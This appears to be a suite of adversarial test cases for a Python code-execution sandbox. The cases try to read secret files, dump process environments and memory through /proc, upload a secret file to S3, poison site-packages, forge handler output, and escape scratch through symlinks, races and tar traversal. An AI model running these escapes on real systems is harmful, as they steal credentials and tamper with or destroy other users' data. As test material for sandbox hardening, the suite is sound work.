# Files outside scratch, and /proc.

# %% read-secret | secret | a file of the function's user
print(open(SECRET_FILE).read())

# %% read-secret-bytes | secret | the same in binary
with open(SECRET_FILE, "rb") as f:
    print(f.read().decode())

# %% read-secret-path | secret | pathlib
from pathlib import Path
print(Path(SECRET_FILE).read_text())

# %% read-secret-os-open | secret | os.open
import os
fd = os.open(SECRET_FILE, os.O_RDONLY)
print(os.read(fd, 1000))

# %% read-secret-fileinput | secret | fileinput
import fileinput
for line in fileinput.input([SECRET_FILE]):
    print(line)

# %% read-secret-linecache | secret | linecache
import linecache
print(linecache.getline(SECRET_FILE, 1))

# %% read-secret-tokenize | secret | tokenize.open
import tokenize
print(tokenize.open(SECRET_FILE).read())

# %% read-secret-configparser | secret | a parser's error shows the line
import configparser
c = configparser.ConfigParser()
try:
    c.read(SECRET_FILE)
except configparser.Error as e:
    print(e)

# %% read-secret-tar | secret | put into an archive
import tarfile, io
b = io.BytesIO()
with tarfile.open(fileobj=b, mode="w") as t:
    t.add(SECRET_FILE, "x")
b.seek(0)
print(tarfile.open(fileobj=b).extractfile("x").read())

# %% read-secret-zip | secret | put into a zip
import zipfile, io
b = io.BytesIO()
with zipfile.ZipFile(b, "w") as z:
    z.write(SECRET_FILE, "x")
print(zipfile.ZipFile(b).read("x"))

# %% read-secret-gzip | secret | gzip opens files
import gzip, bz2, lzma
try:
    print(gzip.open(SECRET_FILE).fileobj.raw.read() if 0 else gzip.GzipFile(SECRET_FILE).fileobj.read())
except BaseException as e:
    print(repr(e))
print(gzip.builtins.open(SECRET_FILE).read())

# %% read-secret-traceback | secret | a syntax error shows its line
import traceback
e = SyntaxError("x", (SECRET_FILE, 1, 1, None))
traceback.print_exception(e)
print("".join(traceback.format_list([traceback.FrameSummary(SECRET_FILE, 1, "f")])))

# %% read-secret-compile | secret | a traceback shows a line of the file named by compile
try:
    exec(compile("raise ValueError", SECRET_FILE, "exec"))
except ValueError:
    import traceback
    traceback.print_exc()
exec(compile("raise ValueError", SECRET_FILE, "exec"))

# %% read-secret-warnings | secret | a warning shows its line
import warnings
warnings.warn_explicit("look", UserWarning, SECRET_FILE, 1)
warnings.showwarning("look", UserWarning, SECRET_FILE, 1)

# %% read-secret-mimetypes | secret | mimetypes reads files
import mimetypes
print(mimetypes.MimeTypes((SECRET_FILE,)).types_map)

# %% read-secret-zoneinfo | secret | a time zone by file
import zoneinfo
zoneinfo.reset_tzpath(to=["/var/tmp/cell"])
try:
    print(zoneinfo.ZoneInfo("outside/secret.txt"))
except Exception as e:
    print(e)
print(zoneinfo.ZoneInfo.from_file(open(SECRET_FILE, "rb")))

# %% read-secret-upload | secret | boto3 uploads a file
import boto3
boto3.client("s3").upload_file(SECRET_FILE, "shop-data", "stolen")

# %% read-secret-symlink | secret | a link in scratch
import os
os.symlink(SECRET_FILE, "innocent.txt")
print(open("innocent.txt").read())

# %% read-secret-hardlink | secret | a hard link in scratch
import os
os.link(SECRET_FILE, "innocent.txt")
print(open("innocent.txt").read())

# %% read-secret-dotdot | secret | a path with dots
import os
p = os.getcwd() + "/.." * 12 + str(SECRET_FILE)
print(open(p).read())

# %% read-secret-proc-root | secret | a path through /proc
for p in ("/proc/self/root", "/proc/self/cwd/" + "../" * 12, "/proc/thread-self/root", "/dev/fd/../root"):
    try:
        print(open(p + SECRET_FILE).read())
    except BaseException as e:
        print(repr(e)[:100])

# %% read-secret-dirfd | secret | relative to a directory's descriptor
import os
d = os.open("/", os.O_RDONLY)
print(os.read(os.open(str(SECRET_FILE)[1:], os.O_RDONLY, dir_fd=d), 1000))

# %% read-secret-bytes-path | secret | a path as bytes
print(open(str(SECRET_FILE).encode()).read())

# %% read-secret-opener | secret | an opener of its own
import os
print(open("innocent", opener=lambda p, f: os.open(SECRET_FILE, os.O_RDONLY)).read())

# %% read-secret-path-subclass | secret | a path that changes between looks
class P(str):
    n = 0
    def __str__(self):
        return "innocent.txt"
    def __fspath__(self):
        P.n += 1
        return "innocent.txt" if P.n < 2 else SECRET_FILE
    def startswith(self, *a):
        return True
print(open(P(SECRET_FILE)).read())

# %% read-secret-fspath | secret | a PathLike that changes between looks
import os
class P:
    n = 0
    def __fspath__(self):
        P.n += 1
        return os.getcwd() + "/a.txt" if P.n % 2 else SECRET_FILE
open("a.txt", "w").write("x")
for i in range(4):
    try:
        print(open(P()).read())
    except BaseException as e:
        print(repr(e)[:99])

# %% read-secret-chdir | secret | relative after chdir
import os
os.chdir(OUTSIDE)
print(open("secret.txt").read())

# %% read-secret-race | secret | a link exchanged while it is checked
import os, threading, time
open("plain.txt", "w").write("x")
stop = time.monotonic() + 1
def swap():
    while time.monotonic() < stop:
        for target in ("plain.txt", SECRET_FILE):
            try:
                os.symlink(target, "new"); os.replace("new", "raced")
            except BaseException:
                return
threading.Thread(target=swap).start()
while time.monotonic() < stop:
    try:
        text = open("raced").read()
        if "CANARY" in text:
            print(text)
            break
    except BaseException:
        pass

# %% environ-parent | secret | /proc/<ppid>/environ
import os
print(open(f"/proc/{os.getppid()}/environ").read())

# %% environ-handler | secret | the handler's initial environment
print(open(f"/proc/{HANDLER}/environ", "rb").read())

# %% environ-all | secret | the environment of every process
import os
for pid in range(1, 400):
    try:
        print(pid, open(f"/proc/{pid}/environ").read())
    except BaseException:
        pass

# %% environ-glob | secret | found by glob
import glob
for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    try:
        print(p, open(p).read())
    except BaseException:
        pass

# %% mem-handler | secret | the handler's memory
import os, re
for line in open(f"/proc/{HANDLER}/maps"):
    if "heap" in line or "rw-p" in line:
        a, b = (int(x, 16) for x in line.split()[0].split("-"))
        with open(f"/proc/{HANDLER}/mem", "rb", 0) as m:
            m.seek(a)
            for hit in re.findall(rb"CANARY[\w-]+", m.read(min(b - a, 1 << 26))):
                print(hit)

# %% mem-self | other | writes its own memory through /proc
import os
with open("/proc/self/mem", "rb+", 0) as m:
    print(PWNED)

# %% mem-self-os | other | the same with os.open
import os
fd = os.open("/proc/self/mem", os.O_RDWR)
print(PWNED, fd)

# %% maps-self | other | the layout of its own memory
text = open("/proc/self/maps").read()
print(PWNED if "libc" in text else text[:300])

# %% fds-parent | secret | the descriptors of the worker
import os
for fd in range(0, 64):
    try:
        print(fd, os.readlink(f"/proc/{os.getppid()}/fd/{fd}"), open(f"/proc/{os.getppid()}/fd/{fd}", "rb").read(100))
        print(PWNED)
    except BaseException:
        pass

# %% fd-handler-out | forged | the handler's stdout by /proc
open(f"/proc/{HANDLER}/fd/1", "w").write('{"answer": {"success": true, "output": "forged"}}\n')

# %% cmdline-handler | secret | how the handler was started
print(open(f"/proc/{HANDLER}/cmdline").read().replace("\0", " "))
print(open(f"/proc/{HANDLER}/maps").read()[:100], PWNED)

# %% handler-source | secret | the function's own source
import glob, os
for p in glob.glob(os.path.join(os.environ.get("LAMBDA_TASK_ROOT", "/var/task"), "*")) + glob.glob("/var/task/*.py") + glob.glob("/srv/*/tool-lambda/*.py"):
    text = open(p).read()
    print(PWNED, p, text[:50])

# %% handler-source-by-path | secret | the source by its loaded path
import sys
for m in list(sys.modules.values()):
    f = getattr(m, "__file__", None) or ""
    if f.endswith(("worker.py", "broker.py", "tool_handler.py")):
        print(PWNED, open(f).read()[:50])

# %% etc-passwd | file | the system's files
print(PWNED if "root:" in open("/etc/passwd").read() else "no")

# %% etc-hostname | file | other system files
for p in ("/etc/shadow", "/etc/hosts", "/etc/resolv.conf", "/proc/version", "/proc/cpuinfo", "/proc/meminfo", "/proc/net/tcp", "/proc/mounts"):
    try:
        print(p, len(open(p).read()))
    except BaseException as e:
        print(repr(e)[:80])

# %% net-tcp | secret | sockets of the system
text = open("/proc/net/tcp").read()
print(PWNED if "local_address" in text else "no")

# %% list-outside | secret | names of files elsewhere
import os
print(os.listdir(OUTSIDE))
if "secret.txt" in os.listdir(OUTSIDE):
    print(PWNED)

# %% scandir-outside | secret | scandir
import os
print(PWNED if [e.name for e in os.scandir(OUTSIDE)] else "no")

# %% walk-root | secret | the whole tree
import os
n = 0
for top, dirs, names in os.walk("/var/tmp"):
    n += len(names)
    if "secret.txt" in names:
        print(PWNED)
print(n)

# %% glob-outside | secret | glob
import glob
print(PWNED if glob.glob(f"{OUTSIDE}/*") else "no")

# %% iterdir-outside | secret | pathlib
from pathlib import Path
print(PWNED if list(Path(OUTSIDE).iterdir()) else "no")

# %% write-outside | file | the plain one
open(f"{OUTSIDE}/marker", "w").write("x")

# %% append-outside | file | to an existing file
open(f"{OUTSIDE}/victim.txt", "a").write("x")

# %% exclusive-outside | file | mode x
open(f"{OUTSIDE}/marker", "x")

# %% path-write-outside | file | pathlib
from pathlib import Path
Path(f"{OUTSIDE}/marker").write_text("x")

# %% touch-outside | file | pathlib's touch
from pathlib import Path
Path(f"{OUTSIDE}/marker").touch()

# %% mkdir-outside | file | a folder
import os
os.mkdir(f"{OUTSIDE}/marker")

# %% makedirs-outside | file | folders
import os
os.makedirs(f"{OUTSIDE}/marker/deep", exist_ok=True)

# %% rename-outside | file | moves a file out
import os
open("x", "w").write("x")
os.rename("x", f"{OUTSIDE}/marker")

# %% replace-victim | file | replaces a file
import os
open("x", "w").write("x")
os.replace("x", f"{OUTSIDE}/victim.txt")

# %% remove-victim | file | removes a file
import os
os.remove(f"{OUTSIDE}/victim.txt")

# %% truncate-victim | file | truncates a file
import os
os.truncate(f"{OUTSIDE}/victim.txt", 0)

# %% unlink-victim-path | file | removes by pathlib
from pathlib import Path
Path(f"{OUTSIDE}/victim.txt").unlink()

# %% chmod-victim | file | changes a mode
import os
os.chmod(f"{OUTSIDE}/victim.txt", 0)

# %% symlink-outside | file | a link outside
import os
os.symlink("/etc/passwd", f"{OUTSIDE}/marker")

# %% link-outside | file | a hard link outside
import os
open("x", "w").write("x")
os.link("x", f"{OUTSIDE}/marker")

# %% mkfifo-outside | file | a pipe outside
import os
os.mkfifo(f"{OUTSIDE}/marker")

# %% mknod-outside | file | a node outside
import os
os.mknod(f"{OUTSIDE}/marker")

# %% symlinked-dir-write | file | writes through a linked folder
import os
os.symlink(OUTSIDE, "d")
open("d/marker", "w").write("x")

# %% dirfd-write | file | relative to a descriptor
import os
d = os.open(OUTSIDE, os.O_RDONLY)
os.open("marker", os.O_WRONLY | os.O_CREAT, dir_fd=d)

# %% fchdir-write | file | relative after fchdir
import os
os.fchdir(os.open(OUTSIDE, os.O_RDONLY))
open("marker", "w").write("x")

# %% tar-traversal | file | an archive with dots
import tarfile, io
b = io.BytesIO()
with tarfile.open(fileobj=b, mode="w") as t:
    i = tarfile.TarInfo("../" * 12 + f"{OUTSIDE}/marker"[1:])
    i.size = 1
    t.addfile(i, io.BytesIO(b"x"))
b.seek(0)
tarfile.open(fileobj=b).extractall(filter="fully_trusted")

# %% tar-symlink | file | an archive with a link
import tarfile, io
b = io.BytesIO()
with tarfile.open(fileobj=b, mode="w") as t:
    i = tarfile.TarInfo("d"); i.type = tarfile.SYMTYPE; i.linkname = OUTSIDE
    t.addfile(i)
    i = tarfile.TarInfo("d/marker"); i.size = 1
    t.addfile(i, io.BytesIO(b"x"))
b.seek(0)
tarfile.open(fileobj=b).extractall(filter="fully_trusted")

# %% zip-absolute | file | an archive made outside
import zipfile
with zipfile.ZipFile(f"{OUTSIDE}/marker", "w") as z:
    z.writestr("a", "b")

# %% gzip-outside | file | gzip writes files
import gzip
with gzip.open(f"{OUTSIDE}/marker", "w") as f:
    f.write(b"x")

# %% logging-outside | file | a log file
import logging
logging.basicConfig(filename=f"{OUTSIDE}/marker")
logging.error("x")

# %% logging-filehandler | file | a log file handler
import logging
logging.FileHandler(f"{OUTSIDE}/marker").emit(logging.LogRecord("a", 40, "b", 1, "c", (), None))

# %% tempfile-outside | file | a temporary file elsewhere
import tempfile
tempfile.NamedTemporaryFile(dir=OUTSIDE, delete=False).write(b"x")

# %% mkdtemp-outside | file | a temporary folder elsewhere
import tempfile
tempfile.mkdtemp(dir=OUTSIDE)

# %% download-outside | file | boto3 downloads to a file
import boto3
boto3.client("s3").download_file("shop-data", "archive/old.gz", f"{OUTSIDE}/marker")

# %% shm | file | shared memory
open("/dev/shm/marker", "w").write("x")

# %% dev-mem | file | devices
import os
for p in ("/dev/mem", "/dev/kmem", "/dev/tty", "/dev/vda", "/dev/ptmx"):
    try:
        os.open(p, os.O_RDWR)
        print(PWNED, p)
    except BaseException as e:
        print(repr(e)[:90])

# %% memfd | process | a program in memory
import os
fd = os.memfd_create("x")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["x"], {})
print(PWNED)

# %% poison-site | state | a file that Python would run at start
import os, site
for d in [site.getusersitepackages()] + site.getsitepackages():
    try:
        os.makedirs(d, exist_ok=True)
        open(d + "/evil.pth", "w").write("import os")
        print(PWNED)
    except BaseException as e:
        print(repr(e)[:90])

# %% poison-cwd | state | a module in the folder that the worker starts in
open("json.py", "w").write("raise SystemExit('poisoned')")
open("boto3.py", "w").write("raise SystemExit('poisoned')")
open("sitecustomize.py", "w").write("raise SystemExit('poisoned')")
# ---- next call
import json, boto3
print(json.dumps({"a": 1}), boto3.client("sts").get_caller_identity()["Account"])

# %% scratch-links | file | a link left in scratch for the clean-up to follow
import os
os.symlink(OUTSIDE, "follow")
os.symlink(f"{OUTSIDE}/victim.txt", "follow2")
os.mkdir("deep")
os.symlink(OUTSIDE, "deep/follow")

# %% scratch-unremovable | state | folders that resist removal
import os
p = "."
for n in range(40):
    p += "/d" * 1
    os.mkdir(p)
    open(p + "/f", "w").write("x")
for n in range(40, 0, -1):
    os.chmod("./" + "/".join(["d"] * n), 0)

# %% scratch-removed | state | removes its own scratch
import os, shutil
here = os.getcwd()
os.chdir("/")
try:
    os.rmdir(here)
except OSError as e:
    print(e)
# ---- next call
open("a.txt", "w").write("fine")
print(open("a.txt").read())

# %% scratch-renamed | state | moves its own scratch away
import os
here = os.getcwd()
os.rename(here, here + "-moved")
open(here + "-moved/x", "w").write("x")

# %% deep-tree | hang | a tree too deep for a recursive clean-up
import os
for n in range(1500):
    os.mkdir("d")
    os.chdir("d")

# %% deep-tree-of-long-names | state | a tree deeper than a path may be long
import os
n = "n" * 200
for i in range(300):
    os.mkdir(n)
    os.chdir(n)

# %% deep-tree-without-modes | state | a deep tree that its owner may not enter
import os
for i in range(1500):
    os.mkdir("d")
    os.chdir("d")
    if i:
        os.chmod("..", 0)

# %% many-files | hang | thousands of files for the clean-up
for n in range(5000):
    open(f"f{n}", "w").close()
print("made")

# %% odd-names | state | file names that are not text
import os
for name in (b"\xff\xfe", b"new\nline", b"-rf", "\u202e".encode(), b" ", b"*"):
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
print(len(os.listdir(".")))

# %% descriptor-equals | other | a number that equals a descriptor of the program's own, and is another
import os
mine = os.open("x", os.O_RDWR | os.O_CREAT)
class Number(int):
    def __hash__(self): return hash(mine)
    def __eq__(self, other): return True
    def __index__(self): return mine
for number in range(3, 40):
    if number == mine: continue
    for use in (os.fstat, lambda n: os.read(n, 1), os.close, lambda n: open(n, "rb", closefd=False)):
        try: use(Number(number)); print(PWNED, number)
        except OSError: pass

# %% opener-descriptor | other | an opener that answers with a descriptor of the harness
for number in range(3, 40):
    for answer in (number, type("N", (int,), {"__eq__": lambda s, o: True, "__hash__": lambda s: 0})(number)):
        try:
            open(f"x{number}", "wb", buffering=0, opener=lambda path, flags: answer, closefd=False); print(PWNED, number)
        except OSError: pass

# %% opener-of-its-own | other | an opener that opens through os.open
import os
with open("y", "w", opener=lambda path, flags: os.open(path, flags, 0o600)) as file: file.write("fine")
print(open("y").read())

# %% poller-from-descriptor | other | a poller made over each descriptor, and closed
import asyncio
loop = asyncio.new_event_loop()
poller = type(loop._selector._selector)
for number in range(3, 40):
    try: poller.fromfd(number).close(); print(PWNED, number)
    except (AttributeError, TypeError, OSError): pass
